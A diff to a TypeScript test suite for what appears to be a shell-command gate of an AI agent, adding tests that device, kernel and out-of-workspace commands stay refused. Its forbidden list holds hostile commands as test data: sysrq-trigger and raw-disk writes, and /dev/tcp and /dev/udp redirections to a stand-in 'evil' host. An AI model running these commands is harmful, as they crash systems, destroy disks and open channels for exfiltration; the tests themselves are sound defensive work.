@@ -8,6 +8,7 @@ import { describe, expect, test } from 'bun:test'
 import { resolve } from 'node:path'
 import type { CommandMode } from './autonomy.ts'
 import { defaultAllow } from './command/allow.ts'
+import { blocked, refused } from './command/corpus.fixture.ts'
 import { callOf, gateOf, tool } from './gate.fixture.ts'
 import type { Policy } from './policy.ts'
 import type { Sight } from './targets/link.ts'
@@ -224,6 +225,8 @@ const forbidden = [
     'echo b > /proc/sysrq-trigger',
     'tee /dev/sda',
     'ls > /dev/tcp/evil/80',
+    'cat < /dev/tcp/evil/80',
+    'exec 3<>/dev/udp/evil/80',
   ],
   ...[
     'echo x > .git/config',
@@ -270,6 +273,29 @@ describe('on a private view', () => {
       expect([command, (await judged(command, view)).writes]).toEqual([command, []])
     expect((await judged('ls > /tmp/x; cp f g', view)).writes).toEqual(['/home/u/ws/g'])
   })
+})
+
+test('devices and other kernel interfaces stay refused where the operator forbids them', async () => {
+  for (const [command, entry] of [
+    ['grep x f /dev/null', '/dev'],
+    ['cat /proc/meminfo', '/proc'],
+    ['ls /tmp', '/tmp'],
+    ['cat /etc/ssl/x', '/etc/ssl'],
+  ])
+    expect([command, (await judged(command ?? '', view, { forbiddenPaths: [entry ?? ''] })).rule]).toEqual([command, 'path.forbidden'])
+})
+
+test('of the corpus of refused commands a view lets through what is refused for its places alone, and single removals', async () => {
+  const isPlace = /^path\.(?:outside_workspace|kernel)$/
+  const corpus = [...blocked, ...refused]
+  const through: string[] = []
+  for (const command of corpus) {
+    if ((await judged(command, view, { autonomy: 'full' })).verdict === 'deny') continue
+    const { rule, reason } = await judged(command, { confined: true, transaction: false }, { autonomy: 'full' })
+    if (isPlace.test(rule) || (rule === 'command.forbidden' && /\brm\b|^find -delete/.test(reason))) continue
+    through.push(`${rule}: ${command}`)
+  }
+  expect(through).toEqual([])
 })
 
 describe('where no view is, the old rule holds:', () => {
